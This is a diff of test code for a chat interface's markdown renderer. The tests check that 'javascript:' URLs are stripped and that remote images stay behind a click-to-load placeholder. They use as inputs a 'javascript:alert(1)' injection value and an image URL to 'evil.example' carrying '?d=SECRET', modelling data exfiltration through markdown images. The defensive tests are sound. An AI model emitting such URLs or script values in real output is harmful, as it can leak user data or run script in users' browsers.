@@ -73,14 +73,15 @@ describe('messages as markdown', () => {
     expect(container.querySelector('[href^="javascript" i], [src^="javascript" i]')).toBeNull()
   })
 
-  test('an image with an unsafe URL leaves its alt text and no <img>; a safe one can be loaded', () => {
+  test('an image with an unsafe URL leaves its alt text and no <img>; a safe one can be loaded', async () => {
     const { container } = render(
       <MarkdownContent
         text={'![tracker](javascript:alert(1)) ![chart](https://example.com/c.png)'}
       />,
     )
     expect(within(container).getByText('tracker')).toBeInTheDocument()
-    fireEvent.click(screen.getByRole('button', { name: 'Load image from example.com' }))
+    // The placeholder's code loads with the first remote image (docs/performance.md, "Split").
+    fireEvent.click(await screen.findByRole('button', { name: 'Load image from example.com' }))
     expect(container.querySelectorAll('img')).toHaveLength(1)
     expect(screen.getByRole('img', { name: 'chart' })).toHaveAttribute(
       'src',
@@ -90,34 +91,37 @@ describe('messages as markdown', () => {
 })
 
 describe('images from other sites (docs/security.md, "Remote images")', () => {
-  test('are not fetched by themselves: a placeholder names the host and the alt text', () => {
+  test('are not fetched by themselves: a placeholder names the host and the alt text', async () => {
     const { container } = render(
       <MarkdownContent
         text={'Here: ![the chart](https://evil.example/x.png?d=SECRET)'}
         streaming
       />,
     )
+    expect(
+      await screen.findByRole('button', { name: 'Load image from evil.example' }),
+    ).toBeVisible()
     expect(container.querySelector('img')).toBeNull()
     expect(container).not.toHaveTextContent('SECRET')
     expect(container).toHaveTextContent('Image: the chart (evil.example)')
-    expect(screen.getByRole('button', { name: 'Load image from evil.example' })).toBeVisible()
   })
 
-  test('load only when the user asks, lazily and without a referrer', () => {
+  test('load only when the user asks, lazily and without a referrer', async () => {
     const { container } = render(<MarkdownContent text={'![](https://evil.example:8443/x.png)'} />)
+    const load = await screen.findByRole('button', { name: 'Load image from evil.example:8443' })
     expect(container).toHaveTextContent('Image (evil.example:8443)')
-    fireEvent.click(screen.getByRole('button', { name: 'Load image from evil.example:8443' }))
+    fireEvent.click(load)
     const image = container.querySelector('img')
     expect(image).toHaveAttribute('src', 'https://evil.example:8443/x.png')
     expect(image).toHaveAttribute('referrerpolicy', 'no-referrer')
     expect(screen.queryByRole('button', { name: /Load image/ })).toBeNull()
   })
 
-  test('a plain-http image is never loaded in the page (its policy allows https only): it opens in a tab', () => {
+  test('a plain-http image is never loaded in the page (its policy allows https only): it opens in a tab', async () => {
     const { container } = render(<MarkdownContent text={'![map](http://maps.example/m.png)'} />)
+    const open = await screen.findByRole('link', { name: 'Open image from maps.example' })
     expect(container.querySelector('img')).toBeNull()
     expect(screen.queryByRole('button', { name: /Load image/ })).toBeNull()
-    const open = screen.getByRole('link', { name: 'Open image from maps.example' })
     expect(open).toHaveAttribute('href', 'http://maps.example/m.png')
     expect(open).toHaveAttribute('rel', 'noopener noreferrer nofollow')
   })
